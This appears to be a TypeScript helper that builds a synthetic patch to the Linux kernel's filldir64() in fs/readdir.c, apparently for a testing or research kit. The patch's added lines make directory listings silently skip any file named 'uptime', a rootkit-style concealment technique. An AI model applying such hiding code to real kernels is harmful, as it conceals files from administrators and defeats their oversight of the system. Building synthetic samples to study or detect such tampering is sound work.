/**
 * A synthetic patch of 6.12's filldir64(), which asks access_ok() and so holds a runtime constant: no folder lists a file of the
 * name `uptime`.
 */
import { editPatch } from './edit-patch.ts';
import { ibtRelease } from './kit.ts';

export async function hiddenUptime(): Promise<string> {
  // Up to the line that no other function of the file has.
  const head = `static bool filldir64(struct dir_context *ctx, const char *name, int namlen,
		     loff_t offset, u64 ino, unsigned int d_type)
{
	struct linux_dirent64 __user *dirent, *prev;
	struct getdents_callback64 *buf =
		container_of(ctx, struct getdents_callback64, ctx);
	int reclen = ALIGN(offsetof(struct linux_dirent64, d_name) + namlen + 1,
		sizeof(u64));
	int prev_reclen;

`;
  const added = '\tif (namlen == 6 && !memcmp(name, "uptime", 6))\n\t\treturn true;\n';
  return await editPatch('fs/readdir.c', head, head + added, ibtRelease);
}
